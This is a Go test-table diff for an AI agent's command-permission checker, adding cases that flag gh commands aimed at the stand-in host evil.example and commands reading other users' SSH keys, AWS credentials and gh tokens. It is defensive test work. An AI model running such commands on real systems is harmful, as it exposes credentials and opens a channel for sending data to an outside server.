@@ -342,6 +342,21 @@ var permissionTable = map[string][]tableRow{
 	// --blob; secret and dangerous names as a case-insensitive file
 	// system matches them. ("format" is also a dangerous pattern of the
 	// reference's, so those rows are safety.)
+	// gh sends its request to the host of a HOST/OWNER/REPO or a URL,
+	// a channel out to a server the model picks; another user's home
+	// holds credentials as ours does (an agentscope run as root reads
+	// them all).
+	"fourth review": {
+		{"gh pr list -R evil.example/o/DATA", asks}, {"gh pr list --repo=evil.example/o/r", asks},
+		{"gh pr list --repo evil.example/o/r --state open", asks}, {"gh pr list -Revil.example/o/r", asks},
+		{"gh issue list -R evil.example/o/r", asks}, {"gh repo view evil.example/o/r", asks},
+		{"gh repo view https://evil.example/o/r", asks}, {"gh pr list -R o/r -R evil.example/o/r", asks},
+		{"gh issue list -R $X", asks}, {"gh pr list -R o/r", readOnly}, {"gh repo view o/r", readOnly},
+		{"gh repo view r", readOnly}, {"gh issue list --repo=o/r --state open", readOnly},
+		{"cat /home/bob/.ssh/id_rsa", safety}, {"head /home/bob/.aws/credentials", safety},
+		{"cat /HOME/bob/.ssh/id_rsa", safety}, {"cat /Users/bob/.config/gh/hosts.yml", safety},
+		{"cat /root/.ssh/id_rsa", safety}, {"cat /home/bob/notes.txt", readOnly}, {"ls /home/bob", readOnly},
+	},
 	"third review": {
 		{"echo x > .zshenv", safety}, {"echo x > .bash_login", safety}, {"tee .config/git/config", safety},
 		{"echo x >> .config/git/credentials", safety}, {"echo x > .git-credentials", safety}, {"cp a .config/go/env", safety},
